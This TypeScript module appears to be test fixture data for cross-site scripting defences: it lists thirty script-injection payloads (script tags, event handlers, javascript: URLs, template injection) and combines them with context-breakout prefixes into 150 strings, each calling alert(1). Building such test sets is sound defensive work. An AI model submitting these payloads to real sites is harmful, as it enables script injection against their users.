/** User input that tries to run a script; each calls alert(). */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<script src=data:text/javascript,alert(1)></script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button autofocus>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<style>@import "javascript:alert(1)";</style>',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<template><img src=x onerror=alert(1)></template>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

/** Contexts that the input has to break out of first. */
const BREAKOUTS = ['', '"', "'>", '</title></textarea></style></script>', '-->]]>\u2028*/'];

/** 150 payloads. */
export const SCRIPT_PAYLOADS: readonly string[] = BREAKOUTS.flatMap((breakout) =>
  PAYLOADS.map((payload) => breakout + payload),
);
